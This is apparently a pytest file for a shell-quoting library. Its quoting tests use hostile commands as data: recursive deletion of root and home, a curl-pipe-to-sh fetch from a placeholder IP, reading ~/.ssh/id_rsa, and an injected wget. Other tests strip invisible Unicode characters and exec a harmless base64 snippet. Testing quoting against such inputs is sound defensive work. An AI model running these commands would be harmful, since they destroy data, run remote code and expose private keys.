import base64
import os
import subprocess

import pytest

from clickable import join, split
from clickable.quoting import strip_invisible


@pytest.mark.parametrize(
    "parts,text",
    [
        (["echo", "a b"], "echo 'a b'"),
        (["rm", "-rf", "/"], "rm -rf /"),
        (["sh", "-c", "curl http://192.0.2.7/x | sh"], "sh -c 'curl http://192.0.2.7/x | sh'"),
        (["echo", "$(cat ~/.ssh/id_rsa)"], "echo '$(cat ~/.ssh/id_rsa)'"),
        (["; rm -rf ~", "&&", "wget http://example.invalid/a"], "'; rm -rf ~' '&&' 'wget http://example.invalid/a'"),
    ],
)
def test_join(parts, text):
    assert join(parts) == text
    assert split(text) == parts


def test_invisible():
    assert strip_invisible("a​​​​​​​​​‮⁦b") == "a\u2066b"
    assert strip_invisible("︀︁︂︃︄︅︆︇︈︉︊︋︌︍︎️x") == "x"


def test_environment_is_passed(tmp_path):
    script = tmp_path / "x.py"
    script.write_text("import os; print(sorted(os.environ))")
    out = subprocess.check_output(["python", str(script)], env=dict(os.environ, AWS_SECRET_ACCESS_KEY="x"))
    assert b"AWS_SECRET_ACCESS_KEY" in out


def test_exec_of_encoded():
    code = base64.b64decode("aW1wb3J0IG9zCnZhbHVlID0gb3MuZW52aXJvbi5nZXQoJ0hPTUUnKQo=")
    scope = {}
    exec(code, scope)
    assert "value" in scope
